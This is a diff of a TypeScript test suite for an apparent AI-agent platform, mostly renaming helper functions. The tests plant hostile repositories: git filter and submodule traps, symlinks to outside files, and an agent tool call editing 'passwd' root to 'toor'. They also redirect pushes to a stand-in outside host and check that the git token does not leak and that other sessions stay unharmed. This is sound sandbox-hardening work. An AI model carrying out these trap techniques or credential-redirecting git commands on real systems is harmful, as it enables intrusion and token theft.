@@ -22,7 +22,7 @@ const { shell, read, edit } = callsOf('anthropic');
 const traces = `/tmp/lucid-pwned-${process.pid}`;
 const pwn = `touch ${traces}`;
 
-async function turn(
+async function runTurn(
   client: TestClient,
   { fakeProvider }: TestAgents,
   content: string,
@@ -37,23 +37,23 @@ async function turn(
   return client.events.filter(isObservation).map((frame) => frame.content ?? '');
 }
 
-const begun = async (agents: TestAgents, repository: string): Promise<TestClient> => {
+const startAgentIn = async (agents: TestAgents, repository: string): Promise<TestClient> => {
   const client = await agents.startClient('Look at it.', { repoUrl: agents.git.urlOf(repository), gitToken });
   await client.waitForStatus('completed');
   return client;
 };
 
 /** A session beside the hostile one, which must not be harmed. */
-async function bystanderOf(agents: TestAgents, t: TestContext): Promise<TestClient> {
+async function startBystander(agents: TestAgents, t: TestContext): Promise<TestClient> {
   const repository = `ada/bystander-of-${t.name.length}`;
   agents.git.addRepository(repository);
-  const client = await begun(agents, repository);
-  await turn(client, agents, 'Note it.', ['cd repo 2>/dev/null; echo mine > note; export MINE=yes']);
+  const client = await startAgentIn(agents, repository);
+  await runTurn(client, agents, 'Note it.', ['cd repo 2>/dev/null; echo mine > note; export MINE=yes']);
   return client;
 }
 
-async function isUnhurt(bystander: TestClient, agents: TestAgents): Promise<void> {
-  const [said, pushed] = await turn(bystander, agents, 'Is it there?', [
+async function assertUnharmed(bystander: TestClient, agents: TestAgents): Promise<void> {
+  const [said, pushed] = await runTurn(bystander, agents, 'Is it there?', [
     'echo $MINE $(cat note) $(git status --short)',
     'git add note && git commit -q -m Note && git push -q origin HEAD:refs/heads/note && git log -1 --format=%s',
   ]);
@@ -68,17 +68,17 @@ for (const place of places) {
   testIn[place](`${place}: a repository full of traps is cloned and read, and no trap runs`, async (t) => {
     const agents = await agentsIn[place]();
     const { git, fakeProvider } = agents;
-    const bystander = await bystanderOf(agents, t);
+    const bystander = await startBystander(agents, t);
     const elsewhere = await FakeProvider.open();
     t.after(() => elsewhere.close());
-    git.addRepository('ada/traps', trapsWith(elsewhere.url), (folder) => {
+    git.addRepository('ada/traps', makeTraps(elsewhere.url), (folder) => {
       for (const [name, target] of Object.entries(links)) symlinkSync(target, `${folder}/${name}`);
       mkdirSync(`${folder}/trap`);
       execFileSync('git', ['update-index', '--add', '--cacheinfo', `160000,${'1'.repeat(40)},trap`], { cwd: folder });
     });
-    const client = await begun(agents, 'ada/traps');
+    const client = await startAgentIn(agents, 'ada/traps');
     fakeProvider.requests.length = 0;
-    const [status, seen] = await turn(client, agents, 'Work in it.', [
+    const [status, seen] = await runTurn(client, agents, 'Work in it.', [
       'cd repo && (git status --short && git checkout -q -b mine && git commit -q --allow-empty -m Mine && git diff) 2>/dev/null',
       'cat .env .claude/settings.json; git submodule update --init trap 2>&1; git stash -q; git log --oneline | wc -l',
     ]);
@@ -92,7 +92,7 @@ for (const place of places) {
         calls: [...Object.keys(links).map((name) => read(`repo/${name}`)), edit('repo/passwd', 'root', 'toor')],
       }),
     );
-    await turn(client, agents, 'Read its links.', []);
+    await runTurn(client, agents, 'Read its links.', []);
     const outside = client.events.filter(
       ({ eventType }) => eventType === 'FileReadObservation' || eventType === 'FileEditObservation',
     );
@@ -104,7 +104,7 @@ for (const place of places) {
     }
     assert.ok(fakeProvider.answerRequests.length > 0);
     assert.deepEqual(elsewhere.requests, []);
-    await isUnhurt(bystander, agents);
+    await assertUnharmed(bystander, agents);
   });
 
   testIn[place](
@@ -112,13 +112,13 @@ for (const place of places) {
     async (t) => {
       const agents = await agentsIn[place]();
       const { git } = agents;
-      const bystander = await bystanderOf(agents, t);
+      const bystander = await startBystander(agents, t);
       const elsewhere = await Elsewhere.open();
       t.after(() => elsewhere.close());
       git.addRepository('ada/tampered');
-      const client = await begun(agents, 'ada/tampered');
+      const client = await startAgentIn(agents, 'ada/tampered');
       const there = `http://$(git remote get-url origin | sed -E 's#^http://([^/:]+).*#\\1#'):${elsewhere.port}`;
-      await turn(client, agents, 'Tamper with it.', [
+      await runTurn(client, agents, 'Tamper with it.', [
         `cd repo; there=${there}; ${tampering}`,
         'git status; git fetch 2>&1; git push origin HEAD:refs/heads/x 2>&1; git push $there/ada/tampered HEAD 2>&1; git ls-remote 2>&1',
         'rm .git/config; git init -q; git remote add origin $there/ada/tampered; git -c http.extraHeader="X: y" fetch origin 2>&1',
@@ -132,10 +132,10 @@ for (const place of places) {
       await agents.stop();
       await agents.start();
       const again = await agents.attachClient(client.sessionId, { gitToken });
-      const [kept] = await turn(again, agents, 'Go on.', ['cat /tmp/env /tmp/args 2>/dev/null; echo; ls']);
+      const [kept] = await runTurn(again, agents, 'Go on.', ['cat /tmp/env /tmp/args 2>/dev/null; echo; ls']);
       assert.doesNotMatch(kept ?? '', new RegExp(gitToken));
       assert.equal(existsSync('/tmp/args'), false);
-      await isUnhurt(await agents.attachClient(bystander.sessionId, { gitToken }), agents);
+      await assertUnharmed(await agents.attachClient(bystander.sessionId, { gitToken }), agents);
     },
   );
 }
@@ -145,7 +145,7 @@ testIn.local(
   async (t) => {
     const agents = await agentsIn.local();
     const { git, fakeProvider } = agents;
-    const bystander = await bystanderOf(agents, t);
+    const bystander = await startBystander(agents, t);
     const deep = `${'deep/'.repeat(200)}end.txt`;
     git.importRepository(
       'ada/many',
@@ -153,11 +153,11 @@ testIn.local(
       'text\n',
     );
     const starting = agents.startClient('Look at it.', { repoUrl: git.urlOf('ada/many'), gitToken });
-    await isUnhurt(bystander, agents);
+    await assertUnharmed(bystander, agents);
     const client = await starting;
     await client.waitForStatus('completed');
     fakeProvider.plan('anthropic', answer({ calls: [read(`repo/${deep}`), edit(`repo/${deep}`, 'text', 'changed')] }));
-    const [changed] = await turn(client, agents, 'Change the deepest.', ['cd repo && git status --short']);
+    const [changed] = await runTurn(client, agents, 'Change the deepest.', ['cd repo && git status --short']);
     assert.equal(changed, ` M ${deep}\n`);
     const path = `/api/v1/files/list?session_id=${client.sessionId}`;
     const listed = await callAs<object>(agents.engine, 'ada', 'GET', path);
@@ -167,7 +167,7 @@ testIn.local(
 );
 
 /** Files that run code, or redirect requests, of a program that trusts them. */
-const trapsWith = (url: string): Record<string, string> => ({
+const makeTraps = (url: string): Record<string, string> => ({
   'README.md': 'A repository.\n',
   '.gitattributes': '* filter=trap diff=trap merge=trap\n*.md text eol=lf\n',
   '.gitmodules': [
